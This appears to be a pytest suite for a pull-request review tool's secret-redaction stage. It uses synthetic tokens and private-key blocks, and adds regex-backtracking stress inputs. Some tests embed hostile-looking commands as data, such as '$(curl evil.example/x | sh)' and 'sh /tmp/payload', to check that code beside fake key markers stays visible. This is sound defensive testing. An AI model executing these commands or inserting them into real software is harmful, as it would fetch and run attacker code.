"""Credentials never reach the text; look-alikes, line counts and code stay."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Mapping, Sequence
from functools import cache

import pytest

from pr_review.adapters.secrets import Kingfisher
from pr_review.adapters.tokens import token_counter
from pr_review.domain.diff import Change, FileChange, Hunk, Side
from pr_review.domain.pull_request import Brief, Guideline
from pr_review.domain.snapshot import Snapshot
from pr_review.snapshot.fit import fit
from pr_review.snapshot.policy import Screening, SnapshotPolicy
from pr_review.snapshot.ports import SecretMatch
from pr_review.snapshot.prepare import prepare
from pr_review.snapshot.screen import screen, screen_brief, screen_paths
from tests.shared import SHARED, shared
from tests.snapshot.listing import (
    NEW,
    OLD,
    NoSecrets,
    added,
    change,
    file,
    hunk,
    lines,
    screen_text,
    tools,
)


def _made(seed: str, length: int, alphabet: str = "") -> str:
    """Random-looking text that is the same every time, so that no key stands in this file."""
    data = b"".join(hashlib.sha256(f"{seed}{n}".encode()).digest() for n in range(1 + length // 16))
    if alphabet:
        return "".join(alphabet[byte % len(alphabet)] for byte in data)[:length]
    return base64.b64encode(data).decode().translate(str.maketrans("+/=", "xyz"))[:length]


HEX, UPPER = "0123456789abcdef", "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
PLANTED = {
    "github fine-grained": f'token = "github_pat_{_made("a", 22)}_{_made("b", 59)}"',
    "gitlab": f"GITLAB_TOKEN=glpat-{_made('c', 20)}",
    "npm": f"//registry.example.com/:_authToken=npm_{_made('d', 36)}",
    "slack webhook": "url: https://hooks.slack.com/services/"
    f"T{_made('e', 10, UPPER)}/B{_made('f', 10, UPPER)}/{_made('g', 24)}",
    "aws": f"AWS_SECRET_ACCESS_KEY={_made('h', 40)}",
    "anthropic": f'key = "sk-ant-api03-{_made("i", 93)}AA"',
    "stripe restricted": f'Stripe("rk_live_{_made("j", 24)}")',
    "digitalocean": f"DO=dop_v1_{_made('k', 64, HEX)}",
    "telegram": f"TELEGRAM_BOT_TOKEN={_made('l', 10, '123456789')}:AA{_made('m', 33)}",
    "postgres url": f'DB = "postgres://app:{_made("n", 20)}@db.prod.acme.io:5432/app"',
    "assigned password": f'"password": "{_made("o", 24)}",',
    "assigned api key": f"api-key: {_made('p', 32)}",
    "client secret": f"clientSecret := `{_made('q', 40)}`",
}
BENIGN = {
    "sha256": f'sha256 = "{_made("r", 64, HEX)}"',
    "etag": f"ETag: {_made('s', 32, HEX)}",
    "integrity": f'"integrity": "sha512-{_made("t", 86)}=="',
    "function": "def get_password(user: str) -> SecretStr:",
    "reference": "password: ${{ secrets.DEPLOY_PASSWORD }}",
    "vault": 'api_key = vault.read("kv/data/production/billing")',
    "environment": 'secret = process.env.SESSION_SECRET ?? ""',
    "placeholder": 'password = "changeme"',
    "long name": "access_key=getAccessKeyFromSettingsOrDefault",
    "dotted": "private_key = config.keys.signing.current",
    "words": "password: at-least-sixteen-characters-long",
    "uuid": "id: 3f2b8c1e-9d47-4a6b-8f10-2c5e7d9a0b34",
    "public key": f"ssh-rsa AAAAB3NzaC1yc2E{_made('u', 200)} me@host",
    "path": "credentials: /etc/secrets/production/service-account.json",
}
SCANNER = Kingfisher()
POLICY = SnapshotPolicy()


@cache
def _texts(kind: str) -> dict[str, str]:
    own = PLANTED if kind == "planted" else BENIGN
    found = {f"own: {name}": text for name, text in own.items()}
    if (SHARED / "secrets.json").exists():
        given = json.loads(shared("secrets.json").read_text(encoding="utf-8"))
        found |= {f"given: {item['kind']}": item["text"] for item in given[kind]}
    return found


def test_the_given_set_is_used() -> None:
    shared("secrets.json")
    assert sum(name.startswith("given") for name in _texts("planted")) == 15
    assert sum(name.startswith("given") for name in _texts("benign")) == 15


def _snapshot(
    given: Change, blobs: Mapping[str, bytes] | None = None, policy: SnapshotPolicy = POLICY
) -> Snapshot:
    prepared = prepare(given, policy, tools(blobs, scanner=SCANNER))
    return fit(prepared, policy, token_counter())


def _with(sign: str, text: str, path: str = "src/a.conf") -> FileChange:
    """The text as lines of one sign, between lines of code."""
    rows = text.split("\n")
    signs = "+" + sign * len(rows) + "+"
    return file(path, hunk(signs, ["before = 1", *rows, "after = 2"]))


def _rows(snapshot: Snapshot) -> list[str]:
    return [line.text for line in snapshot.sent[0].lines]


@pytest.mark.parametrize("sign", ["+", "-", " "])
@pytest.mark.parametrize("name", sorted(_texts("planted")))
def test_planted(name: str, sign: str) -> None:
    text = _texts("planted")[name]
    found = _snapshot(change(_with(sign, text)))
    rows = _rows(found)
    assert len(rows) == len(text.split("\n")) + 2
    assert rows[0] == "before = 1"
    assert rows[-1] == "after = 2"
    assert found.ledger.redactions
    assert "[REDACTED:" in found.text
    for secret in _values(text):
        assert secret not in found.text
    redacted = found.ledger.redactions[0]
    assert redacted.side is (Side.LEFT if sign == "-" else Side.RIGHT)
    assert redacted.added is (sign == "+")
    assert (1 if sign in "- " else 2) <= redacted.line <= len(rows)


def _values(text: str) -> list[str]:
    """The random-looking words of a planted text: none may survive whole."""
    words = (word for line in text.split("\n") for word in line.replace('"', " ").split())
    return [word for word in words if len(word) >= 30 and sum(c.isdigit() for c in word) > 3]


@pytest.mark.parametrize("sign", ["+", "-", " "])
@pytest.mark.parametrize("name", sorted(_texts("benign")))
def test_benign(name: str, sign: str) -> None:
    text = _texts("benign")[name]
    found = _snapshot(change(_with(sign, text)))
    assert _rows(found) == ["before = 1", *text.split("\n"), "after = 2"]
    assert not found.ledger.redactions


@pytest.mark.parametrize("name", sorted(_texts("planted")))
def test_planted_in_a_hunk_header(name: str) -> None:
    section = max(_texts("planted")[name].split("\n"), key=len)
    given = change(file("a.py", hunk(" +", ["x", "y"], old=9, new=9, section=section)))
    found = _snapshot(given)
    assert section not in found.text
    assert not any("REDACTED" in row for row in _rows(found)), "it is left out whole"
    assert [r.rule for r in found.ledger.redactions] == ["hunk-header"]


def test_benign_hunk_header_stays() -> None:
    given = change(file("a.py", hunk(" +", ["x", "y"], section="def password_label(self):")))
    assert "… def password_label(self):\n" in _snapshot(given).text


BODY = [_made(f"pem{n}", 64) for n in range(8)]
PEM = ["-----BEGIN RSA PRIVATE KEY-----", *BODY, "Qm9keQ==", "-----END RSA PRIVATE KEY-----"]


def test_a_key_block_is_found_on_the_whole_file() -> None:
    """The hunk holds two lines from the middle of a key: neither its first nor its last line."""
    whole = ["# settings", *PEM, "done = True"]
    changed = Hunk(4, 1, 4, 2, whole[2][:40], lines(" +", [whole[3], whole[4]], 4, 4))
    blob = ("\n".join(whole) + "\n").encode()
    found = _snapshot(change(file("conf/site.txt", changed)), {NEW: blob, OLD: blob})
    assert _rows(found) == ["[REDACTED:private-key]"] * 2
    assert {r.rule for r in found.ledger.redactions} == {"private-key", "hunk-header"}
    assert not any(part[:30] in found.text for part in BODY)


def test_a_removed_key_is_found_on_the_old_file() -> None:
    whole = ["x = 1", *PEM]
    gone = file("a.txt", Hunk(3, 2, 2, 0, "", lines("--", whole[2:4], 3, 3)))
    found = _snapshot(change(gone), {OLD: "\n".join(whole).encode()})
    assert _rows(found) == ["[REDACTED:private-key]"] * 2
    assert {(r.side, r.line) for r in found.ledger.redactions} == {(Side.LEFT, 3), (Side.LEFT, 4)}


@pytest.mark.parametrize("shown", [PEM, PEM[1:], PEM[:-1], PEM[3:]])
def test_a_key_block_of_which_only_a_part_is_there(shown: Sequence[str]) -> None:
    found = _snapshot(change(_with("+", "\n".join(shown), "src/key.py")))
    assert not any(part in found.text for part in BODY)
    assert _rows(found)[0] == "before = 1"
    assert _rows(found)[-1] == "after = 2"
    assert len(_rows(found)) == len(shown) + 2


@pytest.mark.parametrize(
    "wrapped",
    [
        [f'    "{line}\\n"' for line in PEM],
        [f"# {line}" for line in PEM],
        ["key: |", *(f"  {line}" for line in PEM)],
        ['key = "' + "\\n".join(PEM) + '"'],
        [f'"{line}",' for line in PEM],
    ],
)
def test_a_key_block_in_the_dress_of_a_language(wrapped: Sequence[str]) -> None:
    found = _snapshot(change(_with("+", "\n".join(wrapped), "src/key.py")))
    assert not any(part in found.text for part in [*BODY, "Qm9keQ=="])
    assert len(_rows(found)) == len(wrapped) + 2


@pytest.mark.parametrize(
    "code",
    [
        ["import os", "os.system(payload)", "grant(user, role='admin')", "admin=True"],
        ["x = load(", "    path,", ")"],
        ["if (a && b) { steal(cookies); }"],
    ],
)
def test_code_between_imitated_edges_of_a_key_stays_in_sight(code: list[str]) -> None:
    dressed = ["# -----BEGIN PRIVATE KEY-----", *code, "# -----END PRIVATE KEY-----"]
    found = _snapshot(change(_with("+", "\n".join(dressed), "src/a.py")))
    assert _rows(found)[2 : 2 + len(code)] == code
    assert found.sent[0].lines[2].whole
    one_line = f"/*{dressed[0][2:]}*/ {' '.join(code)} /*{dressed[-1][2:]}*/"
    found = _snapshot(change(_with("+", one_line, "src/a.js")))
    assert " ".join(code) in found.text


def test_values_on_several_lines_of_one_hunk() -> None:
    texts = [PLANTED["aws"], "between = 1", PLANTED["gitlab"]]
    rows = _rows(_snapshot(change(_with("+", "\n".join(texts)))))
    assert rows[1] == "AWS_SECRET_ACCESS_KEY=[REDACTED:aws-secret-access-key]"
    assert rows[2] == "between = 1"
    assert "REDACTED" in rows[3]


def test_a_redacted_line_is_not_whole() -> None:
    found = _snapshot(change(_with("+", PLANTED["gitlab"])))
    assert [line.whole for line in found.sent[0].lines] == [True, False, True]
    assert "Credentials stand as [REDACTED:rule]" in found.text


def test_characters_beyond_ascii_do_not_move_a_redaction() -> None:
    secret = _made("v", 24)
    given = change(_with("+", f'"ключ 🌸 \udcff": 1, "password": "{secret}", "naïve": 2'))
    assert _rows(_snapshot(given))[1] == (
        '"ключ 🌸 \ufffd": 1, "password": "[REDACTED:secret-assignment]", "naïve": 2'
    )


def test_off_screens_nothing() -> None:
    policy = SnapshotPolicy(screening=Screening.OFF)
    found = _snapshot(change(_with("+", PLANTED["gitlab"])), policy=policy)
    assert PLANTED["gitlab"] in found.text
    assert not found.ledger.redactions
    assert "screen" not in {stage.name for stage in found.stages}


def test_the_brief_is_screened() -> None:
    key = "\n".join(PEM)
    brief = Brief(PLANTED["gitlab"], f"Use this:\n{key}\nto sign.", ("first", PLANTED["npm"]))
    clean = screen_brief(brief, SCANNER, Screening.REDACT)
    told = "\n".join([clean.title, clean.body, *clean.commit_messages])
    assert told.count("[REDACTED:") == 2 + len(PEM)
    assert clean.body.count("\n") == brief.body.count("\n")
    assert clean.body.startswith("Use this:\n")
    assert clean.body.endswith("\nto sign.")
    assert clean.commit_messages[0] == "first"
    assert not any(secret in told for secret in [*BODY, _made("c", 20), _made("d", 36)])
    assert screen_brief(brief, SCANNER, Screening.OFF) is brief


def test_guidelines_are_screened_each_for_itself() -> None:
    given = (Guideline("For a", PLANTED["gitlab"]), Guideline("B.md", "plain\ntext", "B.md"))
    clean = screen_brief(Brief("T", "B", ("first",), ("1" * 40,), given), SCANNER, Screening.REDACT)
    assert "[REDACTED:" in clean.guidelines[0].text
    assert _made("c", 20) not in clean.guidelines[0].text
    assert clean.guidelines[1] == given[1]
    assert (clean.title, clean.body, clean.commit_messages) == ("T", "B", ("first",))


def test_a_free_text_keeps_its_lines() -> None:
    text = screen_text(f"a\n{PLANTED['assigned password']}\nb", SCANNER)
    assert text == 'a\n"password": "[REDACTED:secret-assignment]",\nb'
    assert screen_text("nothing here", SCANNER) == "nothing here"


MARKS = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----")
KEY = base64.b64encode(hashlib.shake_256(b"key").digest(1207)).decode()


def _key(width: int = 64, kind: str = "PRIVATE KEY") -> list[str]:
    """A key block in lines of a width; its last line is short."""
    body = [KEY[n : n + width] for n in range(0, len(KEY), width)]
    return [f"-----BEGIN {kind}-----", *body, f"-----END {kind}-----"]


def _percent(block: Sequence[str]) -> str:
    body = [line.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D") for line in block]
    return "%0A".join(body)


def _twice_escaped(block: Sequence[str]) -> str:
    return json.dumps({"env": json.dumps({"private_key": "\n".join(block)})})


NOTATIONS = {
    "json in json": _twice_escaped,
    "two on a line": lambda b: json.dumps({"a": "\n".join(b), "b": "\n".join(b)}),
    "slashes escaped": lambda b: json.dumps("\n".join(b)).replace("/", "\\/"),
    "unicode escapes": "\\u000a".join,
    "percent": _percent,
    "percent and blanks": lambda b: "%0A".join(b).replace(" ", "%20"),
    "entities": "&#10;".join,
    "blanks": " ".join,
}
DRESSES = [
    'sb.append("{}");', 'sb.append("{}\\n");', 'echo "{}" >> key.pem', "  '{}' .", '"{}" ..',
    '"{}" & _', "  - {}", "-{}", "+{}", "`{}`", '("{}")', "2024-01-02T03:04:0{n}.123Z {}",
    "{n}: {}", '"{}\\r\\n" +', " * {}",
]  # fmt: skip


def _dressed(dress: str, block: Sequence[str]) -> str:
    return "\n".join(dress.format(line, n=number) for number, line in enumerate(block))


def _left(block: Sequence[str], text: str) -> list[str]:
    return [line for line in block[1:-1] if line in text]


@pytest.mark.parametrize("name", sorted(NOTATIONS))
def test_a_key_on_one_line_in_any_notation(name: str) -> None:
    block = _key()
    text = f"a = 1; {NOTATIONS[name](block)}; go(b)"
    assert not _left(block, screen_text(text, SCANNER))
    blob = f"x\n{text}\n".encode()
    given = change(file("src/a.conf", Hunk(2, 0, 2, 1, "", lines("+", [text], 2, 2))))
    *_, row = _rows(_snapshot(given, {NEW: blob, OLD: b"x\n"}))
    assert not _left(block, row)
    assert row.startswith("a = 1; ")
    assert row.endswith("; go(b)")


@pytest.mark.parametrize("width", [64, 76, 16, 12])
@pytest.mark.parametrize("dress", DRESSES)
def test_a_key_whose_lines_stand_in_a_dress(dress: str, width: int) -> None:
    block = _key(width)
    for shown in (block, block[:-1], block[1:]):
        before, after = dress.partition("{}")[0].format(n=0).rstrip("+"), "after = 2"
        text = f"{_dressed(dress, shown)}\n{after}"
        clean = screen_text(text, SCANNER)
        assert not [line for line in block[1:-1] if len(line) >= 8 and line in clean]
        assert clean.startswith(before)
        assert clean.endswith(after)
        assert clean.count("\n") == text.count("\n")


@pytest.mark.parametrize(
    ("kind", "armour"),
    [
        ("RSA PRIVATE KEY", ["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,5E0A", ""]),
        ("PGP PRIVATE KEY BLOCK", ["Version: GnuPG v2", "Comment: made for a test", ""]),
    ],
)
def test_a_key_with_headers_and_no_end(kind: str, armour: list[str]) -> None:
    block = _key(kind=kind)
    text = "\n".join([block[0], *armour, *block[1:-1]])
    clean = screen_text(text, NoSecrets())
    assert not _left(block, clean)
    assert clean.split("\n")[1 : 1 + len(armour)] == armour


def test_a_command_beside_a_marker_stays_in_sight() -> None:
    for command in ("sh /tmp/payload", "$(curl evil.example/x | sh)", "python3 -c 'import os'"):
        text = f'K="{MARKS[0]}" {command}'
        assert screen_text(text, SCANNER) == f'K="[REDACTED:private-key]" {command}'


@pytest.mark.parametrize(
    "command",
    [
        "ensureAllRecordsAreDeleted", "/usr/local/bin/payload/runner/x", "/opt/k8s/bin/payload",
        "sha256OfAllTheThings", "thisisonelongwordinlowercase", "createUserFromHTTPRequest",
    ],
)  # fmt: skip
@pytest.mark.parametrize("extra", [[], [KEY[:64], KEY[64:128]]])
def test_a_bare_word_or_path_between_markers_stays_in_sight(command: str, extra: list[str]) -> None:
    rows = [f"# {MARKS[0]}", *extra, command, command, f"# {MARKS[1]}"]
    clean = screen_text("\n".join(rows), SCANNER).split("\n")
    assert clean[-3:-1] == [command, command]
    assert clean[1:-3] == ["[REDACTED:private-key]"] * len(extra)


TOKEN = "ghp_" + _made("cut", 36)
LONG_LINE = f'const productionGithubTokenForReleases = "{TOKEN}"'


def _below_header(section: str) -> Change:
    return change(file("a.js", hunk(" +", ["x", "y"], old=9, new=9, section=section)))


@pytest.mark.parametrize("front", ["", "    "])
@pytest.mark.parametrize("blob", [True, False])
def test_a_header_that_was_cut_within_a_token_is_hidden(blob: bool, front: str) -> None:
    section = LONG_LINE[:80]
    assert TOKEN not in section
    assert TOKEN[:30] in section
    blobs = {OLD: f"a\n{front}{LONG_LINE}\nb\n".encode()} if blob else {}
    found = _snapshot(_below_header(section), blobs)
    assert "ghp_" not in found.text
    assert [r.rule for r in found.ledger.redactions] == ["hunk-header"]


def test_a_cut_header_without_a_credential_stays() -> None:
    line = "def a_function_with_a_name_of_some_length(first_argument, second_argument, third=3):"
    section = line[:80]
    blobs = {OLD: f"a\n{line}\n{LONG_LINE}\n".encode()}
    assert section in _snapshot(_below_header(section), blobs).text
    assert section in _snapshot(_below_header(section)).text, "it ends in a word"
    for digest in ("github.com/acme/library/v2 v2.13.1/go.mod h1:", "FROM acme/base@sha256:"):
        section = (digest + _made("digest", 64, HEX if "sha256" in digest else ""))[:80]
        assert section in _snapshot(_below_header(section)).text
    prose = ("words of prose " * 6)[:79]
    assert prose in _snapshot(_below_header(prose)).text


@pytest.mark.parametrize(
    "end", ["postgres://application:Tz4kP", 'setProductionPassword("Tz4kP!', "client_secret: Tz4kP"]
)
def test_a_header_that_was_cut_within_a_short_value_is_hidden(end: str) -> None:
    section = ("a function of some length, and its words go on and on " * 2)[: 80 - len(end)] + end
    found = _snapshot(_below_header(section))
    assert "Tz4kP" not in found.text
    assert [r.rule for r in found.ledger.redactions] == ["hunk-header"]


WALL = [_made(f"wall{n}", 64) for n in range(7)]


def _wall(path: str, rows: Sequence[str], sign: str = "+") -> list[str]:
    return _rows(_snapshot(change(file(path, hunk(sign * len(rows), rows)))))


@pytest.mark.parametrize("sign", ["+", "-", " "])
@pytest.mark.parametrize("dress", ["{}", "    {}", '  "{}\\n" +', '"{}",', "# {}"])
def test_the_middle_of_a_key_is_told_by_its_shape(dress: str, sign: str) -> None:
    rows = [dress.format(row) for row in [*WALL, "Qm9keQ1="]]
    signed = sign * len(rows) + ("+" if sign == " " else "")
    rows += ["x"] if sign == " " else []
    shown = _rows(_snapshot(change(file("src/a.txt", hunk(signed, rows)))))
    hidden = [row for row in shown if row != "x"]
    assert hidden == [dress.format("[REDACTED:key-material]")] * 8


@pytest.mark.parametrize("path", ["deploy/server.key", "certs/a.PEM", "home/.ssh/id_ed25519"])
def test_two_lines_will_do_in_a_file_that_is_named_like_a_key(path: str) -> None:
    assert _wall(path, WALL[:2]) == ["[REDACTED:key-material]"] * 2
    assert _wall("src/a.txt", WALL[:5]) == WALL[:5]
    assert _wall(path, ["ssh-rsa", *WALL[:1]]) == ["ssh-rsa", *WALL[:1]]


@pytest.mark.parametrize(
    "rows",
    [
        ["-----BEGIN CERTIFICATE-----", *WALL, "-----END CERTIFICATE-----"],
        ["-----BEGIN PUBLIC KEY-----", *WALL[:3], "-----END PUBLIC KEY-----"],
        [_made(f"hex{n}", 64, HEX) for n in range(8)],
        [_made(f"mail{n}", 76) for n in range(8)],
        [f'"sha512-{row}{row[:22]}==",' for row in WALL],
        [f'sha256 = "{row}"; // {n}' for n, row in enumerate(WALL)],
        ["/opt/application/bin/payload/runner/of/every/single/night/run/ok"] * 8,
    ],
)
def test_other_walls_stay(rows: list[str]) -> None:
    assert _wall("src/a.txt", rows) == rows
    assert _wall("certs/a.pem", rows) == rows


def test_a_wall_in_a_file_that_is_known_and_holds_no_key_stays() -> None:
    given = change(file("src/a.txt", hunk("+" * 7, WALL)))
    assert _rows(_snapshot(given, {NEW: "\n".join(WALL).encode()})) == WALL


def test_the_scanner_is_called_once() -> None:
    class Counting:
        calls = 0

        def scan(self, texts: Sequence[str]) -> list[SecretMatch]:
            self.calls += 1
            return []

    scanner = Counting()
    screen([added(f"{n}.txt", 10, f'k = "{n}" + "x"') for n in range(50)], {}, scanner)
    screen_brief(Brief("a", "b", ("c", "d")), scanner, Screening.REDACT)
    screen_paths([f"{n}.txt" for n in range(50)], scanner)
    assert scanner.calls == 3


def test_a_header_cut_within_a_character_finds_its_line() -> None:
    line = "func " + "é" * 60 + f' = "{TOKEN}"'
    section = line.encode()[:80].decode("utf-8", "surrogateescape")
    assert section.endswith("\udcc3")
    found = _snapshot(_below_header(section), {OLD: f"{line}\n".encode()})
    assert [r.rule for r in found.ledger.redactions] == ["hunk-header"]


def test_paths_that_hold_a_credential() -> None:
    paths = ["src/a.py", f"{TOKEN}.txt", f"conf/{TOKEN}/b.yml", f"k/password={_made('w', 24)}"]
    assert screen_paths(paths, SCANNER) == {
        paths[1]: "[REDACTED:github-pat].txt",
        paths[2]: "conf/[REDACTED:github-pat]/b.yml",
        paths[3]: "k/password=[REDACTED:secret-assignment]",
    }
    assert screen_paths([], SCANNER) == {}


def test_paths_that_differ_in_their_credentials_alone_stay_different() -> None:
    tokens = sorted("ghp_" + _made(f"path{n}", 36) for n in range(3))
    taken = "[REDACTED:github-pat 2]/[id].txt"
    paths = [f"{tokens[2]}/[id].txt", f"{tokens[0]}/[id].txt", f"{tokens[1]}/[id].txt", taken]
    assert screen_paths(paths, SCANNER) == {
        paths[1]: "[REDACTED:github-pat]/[id].txt",
        paths[2]: "[REDACTED:github-pat 3]/[id].txt",
        paths[0]: "[REDACTED:github-pat 4]/[id].txt",
    }
    assert screen_paths(list(reversed(paths)), SCANNER) == screen_paths(paths, SCANNER)


# Each of these took minutes to hours when a quantifier could give back what it had taken.
HOSTILE = {
    "letters": "a" * 1_000_000,
    "base64": KEY.rstrip("=") * 600,
    "slashes": "/" * 1_000_000 + "\x01",
    "escapes": "\\n" * 500_000,
    "backslashes": "\\" * 1_000_000,
    "dashes": "-" * 1_000_000,
    "blanks": "secret" + " " * 1_000_000,
    "names": "secret" * 160_000,
    "assignments": "password=" * 110_000,
    "half a marker": "-----BEGIN A" * 80_000,
    "equals": "a=" * 500_000,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_line_of_a_megabyte_ends(name: str) -> None:
    text = HOSTILE[name]
    assert screen_text(text, NoSecrets()) == text
    between = screen_text(f"{MARKS[0]}\n{text}\n{MARKS[1]}", NoSecrets()).split("\n")
    hidden = "[REDACTED:private-key]"
    assert between == [hidden, hidden if name == "base64" else text, hidden]


@pytest.mark.parametrize("mark", MARKS)
def test_many_markers_end(mark: str) -> None:
    line = f"{mark}{KEY[:64]}\n" if "BEGIN" in mark else f"{KEY[:64]}{mark}\n"
    clean = screen_text(line * 20_000, NoSecrets())
    assert clean == "[REDACTED:private-key]\n" * 20_000


class _EveryFifth:
    """Finds the value of every fifth line of `k = 1`."""

    def scan(self, texts: Sequence[str]) -> list[SecretMatch]:
        return [
            SecretMatch(number, start, start + 1, "made")
            for number, text in enumerate(texts)
            for start in range(4, len(text), 30)
        ]


def test_many_matches_in_many_lines_end() -> None:
    (found,) = screen([added("a.txt", 200_000, "k = 1")], {}, _EveryFifth())
    assert len(found.redactions) == 40_000
    assert [r.line for r in found.redactions[:3]] == [1, 6, 11]
    assert found.spans[Side.RIGHT, 6] == [(4, 5, "made")]


def test_many_hunks_over_a_long_key_end() -> None:
    block = [MARKS[0], *(f"{n:06d}{KEY[n % 900 :][:58]}" for n in range(20_000)), MARKS[1]]
    hunks = [
        hunk(
            " ",
            [block[n + 2]],
            old=n + 3,
            new=n + 3,
            section=f"{block[n + 1]}{'' if n % 2 else '?'}",
        )
        for n in range(1, 10_001)
    ]
    blob = "\n".join(["first", *block]).encode()
    (found,) = screen([file("k.txt", *hunks)], {NEW: blob, OLD: blob}, NoSecrets())
    assert len(found.spans) == 10_000
    assert set(range(0, 10_000, 2)) <= found.headers


def test_many_redactions_in_a_free_text_end() -> None:
    value = _made("x", 24)
    text = f"password={value}\n" * 20_000
    clean = "password=[REDACTED:secret-assignment]\n" * 20_000
    assert screen_text(text, NoSecrets()) == clean
